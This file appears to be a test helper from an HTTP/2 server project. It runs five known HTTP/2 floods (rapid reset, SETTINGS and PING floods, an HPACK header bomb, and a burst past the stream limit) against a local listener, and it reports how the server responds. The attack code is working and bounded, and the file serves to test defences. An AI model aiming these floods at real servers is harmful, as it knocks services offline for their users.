#!/usr/bin/env python3
"""The known HTTP/2 floods, frame by frame, against an HTTPS listener on 127.0.0.1.

    h2_floods.py PORT HOST ATTACK

ATTACK is one of rapid_reset, settings_flood, ping_flood, hpack_bomb, max_streams. Prints one
JSON object with what the server did (tests/https_h2_floods.rs judges it). Uses the `h2`
package (hyper's frame codec's Python counterpart) from the venv .ci/setup makes. Every
loop is bounded in count and time.
"""

import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack

PORT = int(sys.argv[1])
HOST = sys.argv[2]
ATTACK = sys.argv[3]


def connect():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    tls = context.wrap_socket(raw, server_hostname=HOST)
    assert tls.selected_alpn_protocol() == "h2", tls.selected_alpn_protocol()
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    tls.sendall(conn.data_to_send())
    return tls, conn


def request_headers(path="/", extra=()):
    return [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", HOST),
        (":path", path),
    ] + list(extra)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def send_flood(tls, one, count):
    """Sends `one` up to `count` times in batches; stops when the server stops reading
    (a send blocked for 2 s) or closes. Returns how many were sent and whether it blocked."""
    batch = one * 1000
    sent = 0
    tls.settimeout(2)
    try:
        while sent < count:
            tls.sendall(batch)
            sent += 1000
    except socket.timeout:
        return sent, True, False
    except OSError:
        return sent, False, True
    return sent, False, False


def read_for(tls, seconds, on_data):
    """Passes what the server sends to `on_data` for up to `seconds`, until it closes or
    `on_data` returns False; returns whether the server closed the connection."""
    deadline = time.time() + seconds
    tls.settimeout(0.5)
    while time.time() < deadline:
        try:
            data = tls.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return True
        if not data:
            return True
        if on_data(data) is False:
            return False
    return False


def drain(tls, conn, seconds=3.0):
    """Reads what the server sends for up to `seconds`: the GOAWAY code, resets, responses."""
    result = {"goaway": None, "resets": {}, "responses": {}, "closed": False, "max_streams": None}

    def on_data(data):
        try:
            events = conn.receive_data(data)
        except Exception as e:  # the flood may leave our side's state odd; keep what we saw
            result["client_error"] = type(e).__name__
            return False
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                result["goaway"] = int(event.error_code)
            elif isinstance(event, h2.events.StreamReset):
                code = int(event.error_code)
                result["resets"][code] = result["resets"].get(code, 0) + 1
            elif isinstance(event, h2.events.ResponseReceived):
                status = dict(event.headers).get(":status")
                result["responses"][status] = result["responses"].get(status, 0) + 1
            elif isinstance(event, h2.events.RemoteSettingsChanged):
                for key, setting in event.changed_settings.items():
                    if key == h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS:
                        result["max_streams"] = setting.new_value
        try:
            out = conn.data_to_send()
            if out:
                tls.sendall(out)
        except OSError:
            result["closed"] = True
            return False
        return True

    result["closed"] = read_for(tls, seconds, on_data) or result["closed"]
    return result


def rapid_reset():
    tls, conn = connect()
    stream = 1
    for _ in range(2000):
        conn.send_headers(stream, request_headers("/a.txt"), end_stream=True)
        conn.reset_stream(stream)
        stream += 2
    try:
        tls.sendall(conn.data_to_send())
    except OSError:
        pass
    result = drain(tls, conn)
    result["streams"] = 2000
    return result


def settings_flood():
    tls, conn = connect()
    sent, blocked, closed = send_flood(tls, frame(0x4, 0, 0), 2_000_000)
    result = drain(tls, conn, 2.0) if not closed else {"closed": True}
    result.update({"sent": sent, "blocked": blocked})
    return result


def ping_flood():
    tls, conn = connect()
    sent, blocked, closed = send_flood(tls, frame(0x6, 0, 0, b"floodpng"), 2_000_000)
    result = drain(tls, conn, 2.0) if not closed else {"closed": True}
    result.update({"sent": sent, "blocked": blocked})
    return result


def hpack_bomb():
    tls, conn = connect()
    big = "x" * 4000
    # The first copy enters HPACK's dynamic table; the others are one-byte references to it,
    # so a small frame decodes to about 400 KB of headers.
    headers = request_headers("/a.txt", [("x-bomb", big)] * 100)
    conn.send_headers(1, headers, end_stream=True)
    tls.sendall(conn.data_to_send())
    result = drain(tls, conn)
    result["decoded_bytes"] = sum(len(k) + len(v) for k, v in headers)
    return result


def max_streams():
    tls, conn = connect()
    # The server's SETTINGS, acknowledged: its limit applies from then on.
    settings = drain(tls, conn, 1.0)
    # 200 streams at once, written as raw frames (the client library would hold back past the
    # server's limit): HEADERS with END_HEADERS and without END_STREAM, so none ends by itself.
    encoder = hpack.Encoder()
    burst = b"".join(
        frame(0x1, 0x4, 1 + 2 * i, encoder.encode(request_headers("/a.txt")))
        for i in range(200)
    )
    tls.sendall(burst)
    seen = {"refused": 0, "goaway": None, "buffered": b""}

    def on_data(data):
        seen["buffered"] += data
        buffered = seen["buffered"]
        while len(buffered) >= 9:
            length = int.from_bytes(buffered[:3], "big")
            if len(buffered) < 9 + length:
                break
            kind, payload = buffered[3], buffered[9 : 9 + length]
            buffered = buffered[9 + length :]
            if kind == 0x3 and int.from_bytes(payload[:4], "big") == 0x7:
                seen["refused"] += 1
            elif kind == 0x7:
                seen["goaway"] = int.from_bytes(payload[4:8], "big")
        seen["buffered"] = buffered

    read_for(tls, 2.0, on_data)
    refused, goaway = seen["refused"], seen["goaway"]
    return {"max_streams": settings["max_streams"], "refused": refused, "goaway": goaway}


ATTACKS = {
    "rapid_reset": rapid_reset,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "hpack_bomb": hpack_bomb,
    "max_streams": max_streams,
}

print(json.dumps(ATTACKS[ATTACK]()))
